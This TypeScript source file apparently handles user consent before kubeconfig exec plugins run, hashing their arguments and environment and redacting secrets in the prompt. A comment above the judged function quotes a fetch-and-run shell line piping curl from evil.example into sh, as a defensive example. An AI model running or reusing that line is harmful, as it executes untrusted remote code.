import { createHash, randomUUID } from 'node:crypto';
import { isLoadingVariable } from '../../../shared/loading-variables';
import type { PluginConsent } from '../../../shared/sign-in';
import { visibleText } from '../../../shared/visible-text';
import type { PluginCall } from './plugin-source';
import { HIDDEN, redact, redactArguments } from './redact';
import { isSecretName } from './secret-names';

/** Where agreements are kept: the settings. */
export interface ConsentStore {
  /** The hash agreed to under `key`. */
  get(key: string): string | undefined;
  set(key: string, hash: string): void;
}

/** A call whose program has been found. */
export interface AskedCall {
  readonly call: PluginCall;
  /** Absolute path of what would run. */
  readonly program: string;
  /** Contexts that sign in with it. */
  readonly contexts: readonly string[];
}

interface Question {
  readonly id: string;
  readonly asked: AskedCall;
  readonly answered: (allow: boolean) => void;
}

/**
 * Asks the user before a program runs for the first time, and whenever anything of it has changed:
 * a kubeconfig is a file that someone else may have written. One question at a time; what was agreed
 * to is remembered, what was declined is not.
 */
export class PluginConsents {
  readonly #store: ConsentStore;
  readonly #onConsent: (question: PluginConsent | null) => void;
  readonly #questions: Question[] = [];
  #told: PluginConsent | null = null;

  /** @param options.onConsent the question to show now; null: none (any more) */
  constructor(options: {
    readonly store: ConsentStore;
    readonly onConsent: (question: PluginConsent | null) => void;
  }) {
    this.#store = options.store;
    this.#onConsent = options.onConsent;
  }

  /** What the page is to ask now, also a page that has just been loaded; null: nothing. */
  get pending(): PluginConsent | null {
    return this.#told;
  }

  /**
   * Resolves to whether the call may run: at once where it was agreed to, else when the user has
   * answered. Aborted, the question is taken back and the answer is no.
   */
  ask(asked: AskedCall, signal: AbortSignal): Promise<boolean> {
    if (this.#isAgreed(asked)) return Promise.resolve(true);
    if (signal.aborted) return Promise.resolve(false);
    return new Promise((resolve) => {
      const question: Question = { id: randomUUID(), asked, answered: resolve };
      this.#questions.push(question);
      signal.addEventListener(
        'abort',
        () => {
          this.#close(question, false, false);
        },
        { once: true },
      );
      this.#show();
    });
  }

  /** The user's answer; false where no such question is being asked. */
  answer(id: string, allow: boolean): boolean {
    const [question] = this.#questions;
    if (question?.id !== id) return false;
    if (allow) this.#store.set(consentKey(question.asked.call), consentHash(question.asked));
    this.#close(question, allow, true);
    return true;
  }

  #isAgreed(asked: AskedCall): boolean {
    return this.#store.get(consentKey(asked.call)) === consentHash(asked);
  }

  /** @param answersOthers false: nobody has said anything, the question is taken back */
  #close(question: Question, allow: boolean, answersOthers: boolean): void {
    const at = this.#questions.indexOf(question);
    if (at < 0) return;
    this.#questions.splice(at, 1);
    question.answered(allow);
    // The answer may be one to what waits behind it as well: the same call from another context.
    const hash = consentHash(question.asked);
    for (const other of [...this.#questions]) {
      if (!answersOthers || consentHash(other.asked) !== hash) continue;
      this.#questions.splice(this.#questions.indexOf(other), 1);
      other.answered(allow);
    }
    this.#show();
  }

  #show(): void {
    const [question] = this.#questions;
    if (question?.id === this.#told?.id) return;
    const before = question && this.#store.get(consentKey(question.asked.call));
    this.#told = question === undefined ? null : view(question, before !== undefined);
    this.#onConsent(this.#told);
  }
}

/**
 * Under what an agreement is kept: the file and its user; and the server, if the program is told of it,
 * so that one user on two clusters is not asked about back and forth.
 */
export function consentKey({ plugin, user, cluster }: PluginCall): string {
  return [plugin.path, user, ...(cluster === null ? [] : [cluster.server])].join('#');
}

/**
 * What is agreed to: the program, all that it is given, and who gives it. Not the program's own
 * bytes: it is updated every few days, and asked every few days, people agree to anything.
 */
export function consentHash({ call, program }: Pick<AskedCall, 'call' | 'program'>): string {
  const { plugin, user, cluster } = call;
  const told = cluster && [
    cluster.server,
    cluster.serverName,
    cluster.skipVerify,
    cluster.proxy,
    cluster.config,
  ];
  const env = plugin.env.map(({ name, value }) => [name, value]);
  const all = [program, plugin.args, env, plugin.apiVersion, told, plugin.path, user];
  return createHash('sha256').update(JSON.stringify(all)).digest('hex');
}

/** What the user judges: nothing unseen in it, and nothing hidden that could be more than a secret. */
function view({ id, asked }: Question, changed: boolean): PluginConsent {
  const { plugin, user, cluster } = asked.call;
  const hidden = redactArguments(plugin.args);
  return {
    id,
    contexts: asked.contexts.map((context) => visibleText(context)),
    user: visibleText(user),
    path: visibleText(plugin.path),
    command: visibleText(plugin.command),
    program: visibleText(asked.program),
    args: plugin.args.map((argument, index) => visibleText(judged(argument, hidden[index] ?? ''))),
    env: plugin.env.map(({ name, value }) => ({
      name: visibleText(name),
      value: isSecretName(name) ? null : variable(name, value),
    })),
    tellsServer: cluster === null ? null : visibleText(cluster.server),
    changed,
  };
}

function variable(name: string, value: string): string | null {
  // Never hidden, whatever they look like.
  if (isLoadingVariable(name)) return visibleText(value);
  const shown = judged(value, redact(value));
  return shown === HIDDEN ? null : visibleText(shown);
}

/**
 * `hidden`, unless what it hides may be a command: `sh -c 'token="$(curl evil.example | sh)"'` would
 * read as `token=•••`. Then all of it is shown, as the one who wrote it chose to have it read.
 */
function judged(text: string, hidden: string): string {
  return hidden !== text && isCode(text) ? text : hidden;
}

/** What a shell reads more into than a word: no token, key or cookie has it. */
function isCode(text: string): boolean {
  return /[\s;|`]|&&|\$[({]|[<>]\(/.test(text);
}
